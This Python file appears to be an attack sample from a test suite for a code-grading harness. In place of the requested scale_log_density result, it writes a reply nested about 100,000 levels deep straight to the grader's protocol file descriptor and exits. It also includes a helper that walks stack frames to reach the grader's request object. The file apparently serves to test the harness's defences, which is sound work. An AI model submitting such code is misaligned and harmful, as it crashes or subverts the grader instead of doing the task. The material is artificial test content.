# class: protocol
# attack: sends a reply nested beyond every limit
# task: 00_mini/scale-density
# form: cell

import os, sys, time
from course_flows.grading import protocol as p

def request():
    frame = sys._getframe()
    while frame is not None and 'request' not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals['request']

def scale_log_density(x, a):
    item = b'\x92\xa4list\x91'
    header = b'\x93\xa5reply\x00' + item * 100_000 + b'\xc0'
    os.write(4, p.PREFIX.pack(b'CFW1', len(header), 0) + header)
    os._exit(0)
